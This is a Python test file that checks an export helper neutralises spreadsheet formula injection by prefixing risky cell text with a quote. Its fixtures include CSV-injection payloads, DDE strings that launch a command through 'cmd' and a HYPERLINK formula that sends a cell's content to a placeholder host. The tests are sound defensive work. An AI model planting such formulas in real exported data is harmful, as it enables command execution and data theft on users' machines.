from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.adapters.exports.cells import plain

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.invalid/?x="&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\ufeff=1+1",
        "\u200b@A1",
        "\uff1d1+1",
        "- a bullet",
        "-5 apples",
        "+49 170 123",
        "-1\n=1+1",
        "-1\n",
        "--1",
    ],
)
def test_what_begins_like_a_formula_is_made_text(text: str) -> None:
    assert plain(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "a=b", "an answer", "'quoted", "-5", "+3.25", "-1,5", "-1e-5", "007", "3 - 4"]
)
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert plain(text) == text


@settings(max_examples=50, deadline=None)
@given(st.text())
def test_no_text_begins_like_a_formula_unless_it_is_a_number(text: str) -> None:
    shown = plain(text)
    assert shown in (text, "'" + text)
    if shown.startswith(BEGINNINGS):
        float(shown.replace(",", "."))
